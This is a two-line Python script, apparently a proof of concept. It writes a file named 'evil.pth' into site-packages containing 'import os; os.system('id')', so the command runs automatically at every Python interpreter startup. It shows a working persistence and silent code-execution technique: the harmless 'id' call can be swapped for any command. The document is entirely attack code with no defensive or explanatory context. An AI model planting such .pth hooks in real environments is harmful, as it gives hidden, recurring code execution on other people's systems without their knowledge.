import site
open(site.getsitepackages()[0] + "/evil.pth", "w").write("import os; os.system('id')")
